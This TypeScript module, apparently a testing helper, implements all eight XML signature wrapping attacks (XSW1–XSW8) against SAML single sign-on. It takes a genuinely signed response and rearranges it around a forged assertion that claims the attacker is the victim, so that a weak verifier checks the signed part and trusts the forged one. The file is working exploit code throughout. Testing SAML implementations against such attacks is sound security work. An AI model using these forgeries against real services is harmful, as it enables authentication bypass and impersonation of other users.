/** What a genuinely signed response is made of. */
interface Parts {
  /** Up to and behind the assertion. */
  head: string;
  tail: string;
  assertion: string;
  /** The assertion's own signature. */
  signature: string;
}

const decode = (base64: string) => Buffer.from(base64, "base64").toString();
const encode = (xml: string) => Buffer.from(xml).toString("base64");

function partsOf(xml: string): Parts {
  const assertion = /<saml:Assertion [\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? "";
  const signature = /<Signature [\s\S]*?<\/Signature>/.exec(assertion)?.[0] ?? "";
  const [head = "", tail = ""] = xml.split(assertion);
  if (!assertion || !signature) throw new Error("The response holds no signed assertion.");
  return { head, tail, assertion, signature };
}

/** How an attacker has the signed part found in one place and another one read. */
export interface Forgery {
  /** The attacker's own assertion, made of the signed one: it says that they are the victim. */
  forge: (assertion: string) => string;
  /** The ID that the forged part gets, or null for that of the signed one. */
  id: string | null;
}

const unsigned = (xml: string, signature: string) => xml.replace(signature, "");
const withId = (xml: string, id: string | null) => (id === null ? xml : xml.replace(/ ID="[^"]*"/, ` ID="${id}"`));
const within = (xml: string, closing: string, inner: string) => {
  const at = xml.lastIndexOf(closing);
  return xml.slice(0, at) + inner + xml.slice(at);
};

type Wrapping = (parts: Parts, forged: string, evil: Forgery) => string;

/** Where the signature of a response stands that is signed as a whole, too. */
const outerSignature = (head: string) => /<Signature [\s\S]*?<\/Signature>/.exec(head)?.[0] ?? "";

/** The whole response, signed as such, is hidden inside of another one, in its signature or before it. */
function wrapResponse({ head, tail, assertion }: Parts, forged: string, evil: Forgery, isInside: boolean): string {
  const outer = outerSignature(head);
  const original = unsigned(head + assertion + tail, outer);
  const around = isInside ? within(outer, "</Signature>", original) : original + outer;
  return withId(head, evil.id).replace(outer, around) + forged + tail;
}

/**
 * The eight ways of XML signature wrapping of “On Breaking SAML: Be Whoever You Want to Be” (Somorovsky et al., USENIX Security 2012),
 * as SAML Raider numbers them. The first two need a response that is signed as a whole.
 */
export const wrappings: Record<string, Wrapping> = {
  XSW1: (parts, forged, evil) => wrapResponse(parts, forged, evil, true),
  XSW2: (parts, forged, evil) => wrapResponse(parts, forged, evil, false),
  XSW3: ({ head, tail, assertion }, forged) => head + forged + assertion + tail,
  XSW4: ({ head, tail, assertion }, forged) => head + within(forged, "</saml:Assertion>", assertion) + tail,
  XSW5: ({ head, tail, assertion, signature }, forged) =>
    head + forged.replace("</saml:Issuer>", `</saml:Issuer>${signature}`) + unsigned(assertion, signature) + tail,
  XSW6: ({ head, tail, assertion, signature }, forged) =>
    head +
    forged.replace(
      "</saml:Issuer>",
      `</saml:Issuer>${within(signature, "</Signature>", unsigned(assertion, signature))}`,
    ) +
    tail,
  XSW7: ({ head, tail, assertion }, forged) =>
    `${head}<samlp:Extensions>${forged}</samlp:Extensions>${assertion}${tail}`,
  XSW8: ({ head, tail, assertion, signature }, forged) =>
    head +
    forged.replace(
      "</saml:Issuer>",
      `</saml:Issuer>${within(signature, "</Signature>", `<Object>${unsigned(assertion, signature)}</Object>`)}`,
    ) +
    tail,
};

/** A signed response, wrapped. */
export function wrap(name: string, response: string, evil: Forgery): string {
  const parts = partsOf(decode(response));
  const forged = withId(evil.forge(unsigned(parts.assertion, parts.signature)), evil.id);
  const made = wrappings[name]?.(parts, forged, evil);
  if (made === undefined) throw new Error(`There is no ${name}.`);
  return encode(made);
}

/** A response, changed as text. */
export const changed = (response: string, change: (xml: string) => string): string => {
  const xml = decode(response);
  const next = change(xml);
  if (next === xml) throw new Error("Nothing was changed.");
  return encode(next);
};
